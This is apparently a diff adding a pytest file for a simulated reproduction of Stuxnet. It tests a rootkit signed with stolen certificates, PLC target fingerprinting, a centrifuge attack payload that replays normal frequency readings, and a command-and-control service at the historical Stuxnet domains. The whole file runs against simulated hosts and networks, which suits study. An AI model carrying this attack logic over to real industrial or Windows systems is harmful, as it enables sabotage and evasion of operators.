@@ -1,0 +1,161 @@
+"""Stuxnet building blocks: rootkit, C&C, PLC payload, Step 7 swap."""
+
+import pytest
+
+from repro.certs.wellknown import JMICRON, REALTEK
+from repro.malware.stuxnet import (
+    PlcAttackPayload,
+    StuxnetCncService,
+    install_windows_rootkit,
+    plc_matches_target,
+)
+from repro.malware.stuxnet.plc_payload import TRIGGER_BAND
+from repro.plc import (
+    CentrifugeCascade,
+    FrequencyConverterDrive,
+    ProfibusBus,
+    ProgrammableLogicController,
+    FARARO_PAYA,
+    VACON,
+)
+from repro.winsim.drivers import DriverLoadError
+
+
+def _creds(world):
+    return world.vendor_credentials(JMICRON), world.vendor_credentials(REALTEK)
+
+
+def test_rootkit_installs_with_stolen_certs(host, world):
+    jmicron, realtek = _creds(world)
+    drivers = install_windows_rootkit(host, jmicron, realtek)
+    assert len(drivers) == 2
+    assert {d.signer for d in drivers} == {JMICRON, REALTEK}
+    # The hider driver conceals stuxnet-origin files from the API view.
+    host.vfs.write("c:\\windows\\system32\\evil.bin", b"x", origin="stuxnet")
+    assert not host.vfs.exists("c:\\windows\\system32\\evil.bin")
+    assert host.vfs.exists("c:\\windows\\system32\\evil.bin", raw=True)
+
+
+def test_rootkit_refused_after_revocation(host, world):
+    jmicron, realtek = _creds(world)
+    host.trust_store.revoke_serial(jmicron[0].serial)
+    with pytest.raises(DriverLoadError):
+        install_windows_rootkit(host, jmicron, realtek)
+    # Cleanup happened: no half-installed drivers or files remain.
+    assert host.drivers.loaded() == []
+    assert not host.vfs.exists(
+        "c:\\windows\\system32\\drivers\\mrxcls.sys", raw=True)
+
+
+def _rig(kernel, vendors):
+    bus = ProfibusBus()
+    for index, vendor in enumerate(vendors):
+        cascade = CentrifugeCascade("C%d" % index, 20,
+                                    rng=kernel.rng.fork("c%d" % index))
+        bus.attach(FrequencyConverterDrive("drv-%d" % index, vendor,
+                                           cascade, kernel.clock))
+    return ProgrammableLogicController(kernel, "PLC-T", bus)
+
+
+def test_fingerprint_requires_both_vendors(kernel):
+    assert plc_matches_target(_rig(kernel, [FARARO_PAYA, VACON]))
+    assert not plc_matches_target(_rig(kernel, [FARARO_PAYA, FARARO_PAYA]))
+    assert not plc_matches_target(_rig(kernel, [VACON]))
+
+
+def test_fingerprint_requires_profibus_cp(kernel):
+    plc = _rig(kernel, [FARARO_PAYA, VACON])
+    plc.bus.cp_model = "CP 9999"
+    assert not plc_matches_target(plc)
+
+
+def test_payload_refuses_mismatched_plc(kernel):
+    plc = _rig(kernel, [VACON])
+    payload = PlcAttackPayload(kernel, plc)
+    assert not payload.install()
+    assert not payload.armed
+    assert "OB0_STUX" not in plc.block_names()
+
+
+def test_payload_force_install_skips_fingerprint(kernel):
+    plc = _rig(kernel, [VACON])
+    payload = PlcAttackPayload(kernel, plc)
+    assert payload.install(force=True)
+    assert payload.armed
+
+
+def test_payload_trigger_band_and_sequence(kernel):
+    plc = _rig(kernel, [FARARO_PAYA, VACON]).power_on()
+    payload = PlcAttackPayload(kernel, plc, max_cycles=1)
+    assert payload.install()
+    low, high = TRIGGER_BAND
+    # Below the band: no attack even after days.
+    plc.setpoint = low - 200
+    kernel.run_for(2 * 86400.0)
+    assert payload.cycles_completed == 0
+    # In band: the full sequence runs and reports the recorded value.
+    plc.setpoint = 1064.0
+    kernel.run_for(2 * 86400.0)
+    assert payload.cycles_completed == 1
+    assert plc.reported_frequency_override is None  # cleaned up after
+    assert not plc.control_suppressed
+
+
+def test_payload_replays_normal_value_during_attack(kernel):
+    plc = _rig(kernel, [FARARO_PAYA, VACON]).power_on()
+    payload = PlcAttackPayload(kernel, plc, max_cycles=1)
+    payload.install()
+    kernel.run_for(3700.0)   # reach steady state, trigger fires
+    assert payload.attacking
+    assert plc.reported_frequency() == pytest.approx(1064.0, abs=2)
+    assert plc.actual_frequency() > 1300.0
+
+
+def test_payload_respects_max_cycles_and_wait(kernel):
+    plc = _rig(kernel, [FARARO_PAYA, VACON]).power_on()
+    payload = PlcAttackPayload(kernel, plc, max_cycles=2,
+                               inter_attack_wait=86400.0)
+    payload.install()
+    kernel.run_for(30 * 86400.0)
+    assert payload.cycles_completed == 2
+
+
+def test_payload_remove_cleans_plc(kernel):
+    plc = _rig(kernel, [FARARO_PAYA, VACON]).power_on()
+    payload = PlcAttackPayload(kernel, plc)
+    payload.install()
+    payload.remove()
+    assert "OB0_STUX" not in plc.block_names()
+    assert "DB890" not in plc.block_names()
+    assert not payload.armed
+
+
+def test_cnc_service_collects_reports(kernel):
+    from repro.netsim import Internet
+
+    internet = Internet(kernel)
+    service = StuxnetCncService(internet)
+    assert internet.reachable("www.mypremierfutbol.com")
+    assert internet.reachable("www.todayfutbol.com")
+    import json
+
+    response = internet.http("victim", "GET",
+                             "http://www.mypremierfutbol.com/index.php",
+                             params={"data": json.dumps(
+                                 {"hostname": "V", "ics_software": ["step7"]})})
+    assert response.ok
+    assert len(service.victim_reports) == 1
+    assert len(service.reports_with_ics_software()) == 1
+
+
+def test_cnc_serves_queued_updates(kernel):
+    import json
+    from repro.netsim import Internet
+
+    internet = Internet(kernel)
+    service = StuxnetCncService(internet)
+    service.queue_update("exp-module", b"\x90" * 100)
+    response = internet.http("victim", "GET",
+                             "http://www.todayfutbol.com/index.php")
+    updates = json.loads(response.body.decode())["updates"]
+    assert updates == [{"name": "exp-module", "payload_size": 100}]
